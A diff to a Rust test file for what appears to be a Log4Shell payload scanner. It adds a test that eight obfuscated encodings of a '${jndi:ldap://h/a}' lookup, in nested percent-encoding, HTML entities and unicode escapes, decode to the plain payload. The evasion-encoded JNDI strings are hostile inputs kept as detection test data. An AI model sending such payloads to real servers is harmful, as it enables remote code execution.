@@ -127,6 +127,24 @@ fn each_disguise_alone_decodes_and_is_named() {
 }
 
 #[test]
+fn rarer_encodings_of_the_dollar_are_found_by_the_scanner() {
+    // `decode_str` runs the scanner's anchor search; each of these once slipped past it.
+    for input in [
+        "%25252524%257Bjndi:ldap://h/a%257D",
+        "%25u0024%7Bjndi:ldap://h/a%7D",
+        "%2525%32%34%7Bjndi:ldap://h/a%7D",
+        "%25%32%34%25%37%42jndi:ldap://h/a%7D",
+        "&#x24;&#x7b;jndi:ldap://h/a&#x7d;",
+        "&dollar;{jndi:ldap://h/a}",
+        "%26%2336;{jndi:ldap://h/a}",
+        "%5Cu0024%7Bjndi:ldap://h/a%7D",
+    ] {
+        let h = one(&format!("GET /?q={input} HTTP/1.1"));
+        assert_eq!(h.payload, "${jndi:ldap://h/a}", "{input}");
+    }
+}
+
+#[test]
 fn surrogate_pairs_and_mixed_layers() {
     // `$` as \u escape, `{` URL-encoded, the j through a lower lookup.
     let h = one("\\u0024%7B${lower:J}ndi:ldap://h/a}");
